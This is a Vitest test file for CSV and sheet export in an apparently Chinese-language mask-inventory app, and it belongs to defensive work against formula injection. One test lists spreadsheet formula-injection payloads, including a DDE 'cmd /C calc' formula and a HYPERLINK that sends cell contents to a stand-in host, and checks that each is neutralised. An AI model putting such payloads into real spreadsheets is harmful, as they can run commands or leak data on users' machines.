import { describe, expect, it } from 'vitest'
import { csvBytes } from '../../../renderer/export/csv.ts'
import { sheetOf } from '../../../renderer/export/sheet.ts'
import type { CellValue } from '../../../renderer/grid/cell-value.ts'
import type { GridColumn } from '../../../renderer/grid/column.ts'

const read = (rows: readonly (readonly CellValue[])[]) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(csvBytes(rows))

/** RFC 4180, as a spreadsheet reads it. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let index = 0; index < text.length; index++) {
    const sign = text[index]!
    if (quoted && sign === '"' && text[index + 1] === '"') {
      cell += '"'
      index += 1
    } else if (sign === '"') quoted = !quoted
    else if (!quoted && (sign === ',' || text.startsWith('\r\n', index))) {
      rows.at(-1)!.push(cell)
      cell = ''
      if (sign !== ',') {
        index += 1
        rows.push([])
      }
    } else cell += sign
  }
  return rows.slice(0, -1)
}

describe('a list as CSV', () => {
  it('begins with the byte order mark by which Excel knows UTF-8', () => {
    expect([...csvBytes([['口罩']]).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })

  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test?x="&A1,"click")',
    '+1+cmd|x!A1',
    '-2+3+cmd|x!A1',
    '@SUM(1+1)*cmd|x!A1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=1+1";=1+2',
    '=1,"=2',
  ])('never lets %j run as a formula', (payload) => {
    const [cells] = parse(read([['a', payload, 'b']]).slice(1))
    // One cell still, neutralised, and nothing lost of what it says.
    expect(cells).toEqual(['a', `'${payload}`, 'b'])
  })

  it('gives harmless text back as it was', () => {
    const rows = [
      [
        '医用防护口罩',
        '说"好"',
        '一,二',
        '上\r\n下',
        '上\n下',
        "it's",
        '',
        ' 空白 ',
        '2020-02-06',
        '0757-22318000',
        'a=b',
        'L-01',
      ],
    ]
    expect(parse(read(rows).slice(1))).toEqual(rows)
  })

  it('keeps numbers plain, negative ones too', () => {
    expect(read([[1234567, -5, 0, 2.5, null]])).toBe('\ufeff1234567,-5,0,2.5,\r\n')
  })
})

describe('the rows of a grid, to be exported', () => {
  type Row = { readonly name: string; readonly kind: string; readonly amount: number | null; readonly milli: number }
  const columns: GridColumn<Row>[] = [
    { id: 'name', header: '品名', kind: 'text', value: (row) => row.name },
    {
      id: 'kind',
      header: '类别',
      kind: 'choice',
      value: (row) => row.kind,
      choices: [{ value: 'mask', label: '口罩' }],
    },
    {
      id: 'amount',
      header: '数量',
      kind: 'number',
      value: (row) => row.amount,
      show: (value) => (value === null ? '' : `${Number(value).toLocaleString('en-US')} 只`),
      group: '一号库',
    },
    {
      id: 'days',
      header: '天数',
      kind: 'number',
      value: (row) => row.milli,
      show: (value) => `▼ ${Number(value) / 1000}`,
    },
    { id: 'cover', header: '可用', kind: 'number', value: (row) => row.milli, show: (v) => `${Number(v) / 1000} 天` },
  ]

  it('are what is read on screen, figures as numbers', () => {
    const sheet = sheetOf('库存', columns, [
      { name: 'N95', kind: 'mask', amount: 12_000, milli: 7500 },
      { name: 'KN95', kind: 'other', amount: null, milli: 0 },
    ])
    expect(sheet.columns.map(({ header }) => header)).toEqual(['品名', '类别', '一号库 数量', '天数', '可用'])
    expect(sheet.rows).toEqual([
      ['N95', '口罩', 12_000, 7.5, '7.5 天'],
      ['KN95', 'other', null, 0, 0],
    ])
  })

  it('keeps the minus that stands on the screen: a shortage is no surplus', () => {
    const signed: GridColumn<{ readonly base: number }> = {
      id: 'variance',
      header: '差异',
      kind: 'number',
      value: ({ base }) => base,
      show: (value) => (Number(value) < 0 ? `−${-Number(value)}` : `+${value}`),
    }
    const { rows } = sheetOf('盘点', [signed], [{ base: -1200 }, { base: 3 }, { base: -1 }])
    expect(rows).toEqual([[-1200], [3], [-1]])
  })
})
